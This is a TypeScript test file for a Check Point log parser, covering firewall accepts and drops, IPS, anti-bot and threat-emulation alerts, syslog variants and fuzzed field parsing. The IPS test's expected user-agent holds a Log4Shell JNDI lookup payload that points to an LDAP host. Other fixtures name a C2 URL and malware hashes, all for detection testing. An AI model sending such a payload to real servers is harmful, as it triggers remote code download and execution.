import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { contractContext, fixtureLines, parserContract } from '../contract.ts';
import { runParser } from '../registry.ts';
import { checkpointParser, parseFields } from './checkpoint.ts';

const ctx = contractContext();
const lines = fixtureLines('checkpoint.log');

parserContract(checkpointParser, 'checkpoint.log');

const parse = (line: string) => {
  const r = runParser(checkpointParser, line, ctx);
  if (!r.ok) throw new Error(`${r.error.code}: ${r.error.message}`);
  return r.event;
};

describe('checkpoint firewall', () => {
  it('maps an Accept in the syslog format with NAT, zones, rule, direction and the gateway name', () => {
    expect(parse(lines[0]!)).toMatchObject({
      '@timestamp': '2026-11-29T10:20:00.000Z',
      event: {
        kind: 'event',
        category: ['network'],
        type: ['connection', 'allowed'],
        action: 'accept',
        outcome: 'success',
        dataset: 'checkpoint.firewall',
        module: 'checkpoint',
      },
      observer: {
        vendor: 'Check Point',
        product: 'VPN-1 & FireWall-1',
        type: 'firewall',
        name: 'gw-hq-01',
        egress: { interface: { name: 'eth1' } },
      },
      source: {
        ip: '10.10.1.25',
        port: 51544,
        nat: { ip: '198.51.100.2', port: 61544 },
        zone: 'Internal',
        user: { name: 'John Doe (jdoe)' },
        domain: 'laptop-jdoe',
      },
      destination: { ip: '203.0.113.80', port: 443, zone: 'External' },
      network: { transport: 'tcp', iana_number: '6', protocol: 'https', direction: 'outbound' },
      rule: { id: '0d0462b6-4d22-4fff-902b-c433ea539ce0', name: 'Allow web out' },
      log: { syslog: { hostname: 'mgmt-log-01', appname: 'CheckPoint' } },
    });
    // xlatedst 0.0.0.0 / xlatedport 0: no destination NAT
    expect(parse(lines[0]!).destination?.nat).toBeUndefined();
  });

  it('maps accounting counters of the client side, the totals, elapsed and start time', () => {
    expect(parse(lines[1]!)).toMatchObject({
      event: { duration: 90_000_000_000, start: '2026-11-29T10:20:00.000Z' },
      source: { bytes: 4210, packets: 41 },
      destination: { bytes: 98233, packets: 77 },
      network: { bytes: 102443, packets: 118 },
    });
  });

  it('maps Drop (out-of-state reason), Reject and an IPv6 ICMP drop', () => {
    expect(parse(lines[2]!)).toMatchObject({
      event: {
        type: ['connection', 'denied'],
        action: 'drop',
        outcome: 'failure',
        reason: "First packet isn't SYN",
      },
      observer: { ingress: { interface: { name: 'eth0' } } },
    });
    expect(parse(lines[3]!)).toMatchObject({
      event: { type: ['connection', 'denied'], action: 'reject', outcome: 'failure' },
      rule: { name: 'Block SMB out' },
      network: { protocol: 'smb' },
    });
    const v6 = parse(lines[4]!);
    expect(v6).toMatchObject({
      source: { ip: '2001:db8:ffff::9' },
      destination: { ip: '2001:db8:10::25' },
      network: { transport: 'ipv6-icmp', iana_number: '58' },
      rule: { name: 'Cleanup rule' },
    });
    expect(v6.destination?.port).toBeUndefined();
  });
});

describe('checkpoint threat prevention', () => {
  it('maps an IPS (SmartDefense) prevent to an IDS alert with protection, attack and numeric severity', () => {
    const e = parse(lines[5]!);
    expect(e).toMatchObject({
      event: {
        kind: 'alert',
        category: ['network', 'intrusion_detection'],
        type: ['denied'],
        action: 'prevent',
        outcome: 'failure',
        severity: 4,
        dataset: 'checkpoint.ips',
      },
      rule: {
        id: 'asm_dynamic_prop_CVE_2021_44228',
        name: 'Apache Log4j Remote Code Execution (CVE-2021-44228)',
        category: 'Content Protection Violation',
      },
      url: { domain: 'portal.example.com', path: '/api/login', query: 'user=admin' },
      http: { request: { method: 'POST' } },
      // a ";" inside a quoted value does not end it
      user_agent: { original: 'Mozilla/5.0 (X11; Linux x86_64); $' + '{jndi:ldap://192.0.2.88:1389/a}' },
    });
    // xlatedst/xlatedport equal to dst/service: not a translation
    expect(e.destination?.nat).toBeUndefined();
  });

  it('maps an IPS detect with a text severity to the same numeric scale', () => {
    expect(parse(lines[6]!)).toMatchObject({
      event: { kind: 'alert', type: ['allowed'], action: 'detect', outcome: 'success', severity: 2 },
      rule: { name: 'SQL Injection Generic', category: 'SQL Servers Protection Violation' },
      observer: { product: 'IPS' },
    });
  });

  it('maps Anti-Bot and Threat Emulation to malware alerts', () => {
    expect(parse(lines[7]!)).toMatchObject({
      event: {
        kind: 'alert',
        category: ['network', 'malware'],
        type: ['denied'],
        severity: 3,
        dataset: 'checkpoint.anti_bot',
      },
      rule: { id: '0000A1B2C', name: 'Emotet.TC.a', category: 'Communication with C&C site' },
      source: { user: { name: 'Alice Smith (asmith)' }, domain: 'ws-0077', bytes: 412 },
      url: { original: 'http://c2.example.net/gate.php', domain: 'c2.example.net', path: '/gate.php' },
    });
    expect(parse(lines[8]!)).toMatchObject({
      event: {
        kind: 'alert',
        category: ['network', 'malware'],
        severity: 3,
        dataset: 'checkpoint.threat_emulation',
      },
      file: {
        name: 'invoice_2026.docm',
        hash: {
          md5: '44d88612fea8a8f36de82e1278abb02f',
          sha256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
        },
      },
    });
  });
});

describe('checkpoint variants and quirks', () => {
  it('reads the RFC 5424 SD key="value" variant and its zoned header time', () => {
    expect(parse(lines[9]!)).toMatchObject({
      '@timestamp': '2026-11-29T10:29:00.000Z',
      event: { action: 'drop', type: ['connection', 'denied'] },
      observer: { product: 'VPN-1 & FireWall-1', name: 'gw-br-02' },
      source: { ip: '203.0.113.9', port: 40000 },
      destination: { ip: '198.51.100.30', port: 22 },
      rule: { name: 'Deny SSH from Internet' },
    });
  });

  it('reads plain key="value" behind a BSD header, and the splunk key=value| format', () => {
    expect(parse(lines[10]!)).toMatchObject({
      '@timestamp': '2026-11-29T10:30:00.000Z',
      event: { action: 'accept' },
      network: { transport: 'udp', protocol: 'dns' },
      rule: { name: 'DNS out' },
      log: { syslog: { hostname: 'gw-hq-01' } },
    });
    expect(parse(lines[11]!)).toMatchObject({
      '@timestamp': '2026-11-29T10:31:00.000Z',
      event: { action: 'drop', outcome: 'failure' },
      observer: { product: 'Firewall', name: 'gw-br-02' },
      rule: { name: 'Block Telnet' },
      network: { protocol: 'telnet' },
    });
  });

  it('maps audit and system logs without endpoints', () => {
    const audit = parse(lines[12]!);
    expect(audit).toMatchObject({
      event: { category: ['authentication'], type: ['start'], action: 'log in', outcome: 'success' },
      user: { name: 'admin' },
    });
    expect(audit.observer?.type).toBeUndefined();
    expect(parse(lines[13]!)).toMatchObject({
      event: { category: ['host'], type: ['info'], dataset: 'checkpoint.system' },
      message:
        'The eth3 interface is not protected by the anti-spoofing feature. Your network may be at risk',
    });
  });

  it('uses a split "date time" header as UTC when the body has no time', () => {
    expect(parse(lines[14]!)).toMatchObject({
      '@timestamp': '2026-11-29T10:34:00.000Z',
      network: { protocol: 'ntp' },
    });
  });

  it('handles escapes, brackets and semicolons inside quoted values', () => {
    const fields = (text: string) => Object.fromEntries(parseFields(text) ?? []);
    expect(
      fields('[a:"x; y"; b:"say \\"hi\\" \\[z\\]"; c::"double colon"; tag:"p[db=1;m=2\\]"; a:"second"]'),
    ).toEqual({ a: 'x; y', b: 'say "hi" [z]', c: 'double colon', tag: 'p[db=1;m=2]' });
    expect(fields('k=v w|o=cn\\=gw,o\\=x|')).toEqual({ k: 'v w', o: 'cn=gw,o=x' });
    expect(parseFields('no pairs here')).toBeNull();
  });

  it('reads a body in its line as it reads the body alone, whatever comes before it', () => {
    const text = fc.string({
      unit: fc.constantFrom('a', 'b', 'k', '1', ':', '=', '"', '\\', ' ', ';', '|', '[', ']', '@', '-', '\t'),
      maxLength: 40,
    });
    fc.assert(
      fc.property(text, text, (before, body) => {
        const alone = parseFields(body);
        const inLine = parseFields(before + body, before.length);
        expect(inLine && Object.fromEntries(inLine)).toEqual(alone && Object.fromEntries(alone));
      }),
      { numRuns: 3000 },
    );
  });

  it('rejects lines that are not Check Point logs, with a reason', () => {
    for (const bad of [
      'Nov 29 10:00:00 host sshd[1]: Accepted password for root',
      '{"a":1}',
      'foo=bar baz=qux',
      'date=2026-11-29 time=10:00:00 logid="0000000013" type="traffic" subtype="forward" action="deny" srcip=192.0.2.1',
    ]) {
      const r = runParser(checkpointParser, bad, ctx);
      expect(r).toMatchObject({ ok: false, error: { code: 'syntax' } });
      if (!r.ok) expect(r.error.message.length).toBeGreaterThan(10);
    }
  });
});
